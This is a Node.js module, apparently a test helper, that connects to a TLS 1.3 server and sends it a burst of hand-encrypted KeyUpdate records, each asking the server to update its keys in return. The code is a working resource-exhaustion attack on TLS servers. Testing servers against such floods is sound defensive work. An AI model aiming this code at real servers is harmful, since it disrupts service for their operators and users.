import { createCipheriv, createHmac } from 'node:crypto'
import { connect as connectTcp } from 'node:net'
import { Duplex } from 'node:stream'
import { setImmediate } from 'node:timers/promises'
import { connect } from 'node:tls'

const HANDSHAKE = 22
const APPLICATION_DATA = 23
/** KeyUpdate with update_requested (RFC 8446 section 4.6.3). */
const KEY_UPDATE = Buffer.from([24, 0, 0, 1, 1])
/** Records that are made in one turn of the event loop. */
const A_TURN = 100

/** HKDF-Expand-Label with an empty context and a length of one SHA-256 block. */
function expand(secret, label, length) {
  const name = Buffer.from(`tls13 ${label}`)
  const info = Buffer.concat([Buffer.from([0, length, name.length]), name, Buffer.from([0, 1])])
  return createHmac('sha256', secret).update(info).digest().subarray(0, length)
}

/** The first record under a traffic secret. */
function seal(secret, content, type) {
  const cipher = createCipheriv('aes-128-gcm', expand(secret, 'key', 16), expand(secret, 'iv', 12))
  const length = content.length + 1 + 16
  const header = Buffer.from([APPLICATION_DATA, 3, 3, length >> 8, length & 255])
  cipher.setAAD(header)
  return Buffer.concat([
    header,
    cipher.update(content),
    cipher.update(Buffer.from([type])),
    cipher.final(),
    cipher.getAuthTag(),
  ])
}

/**
 * Opens a TLS connection without a certificate and writes key updates, each of which requests another one in return.
 * Node.js cannot send any, so that the records are made here, with keys derived from the key log. `onSent` is called when
 * they are on their way.
 */
export function floodWithKeyUpdates(target, count, onSent) {
  const raw = connectTcp(target)
  let client
  let secret
  const below = new Duplex({
    read: () => undefined,
    write: (chunk, _encoding, done) => raw.write(chunk, done),
  })
  const forward = (chunk) => below.push(chunk)
  raw.on('data', forward)
  raw.on('error', () => undefined)
  raw.once('connect', () => {
    client = connect({
      socket: below,
      rejectUnauthorized: false,
      minVersion: 'TLSv1.3',
      ciphers: 'TLS_AES_128_GCM_SHA256',
    })
    client.on('error', () => undefined)
    client.on('keylog', (line) => {
      const [label, , hex] = line.toString().trim().split(' ')
      if (label === 'CLIENT_TRAFFIC_SECRET_0') secret = Buffer.from(hex, 'hex')
    })
    client.once('secureConnect', async () => {
      raw.off('data', forward)
      raw.resume()
      const records = []
      for (let made = 0; made < count; made += 1) {
        // The server may be in this process, and has the handshake to end.
        if (made % A_TURN === 0) await setImmediate()
        records.push(seal(secret, KEY_UPDATE, HANDSHAKE))
        secret = expand(secret, 'traffic upd', 32)
      }
      raw.write(Buffer.concat(records), onSent)
    })
  })
  return raw
}
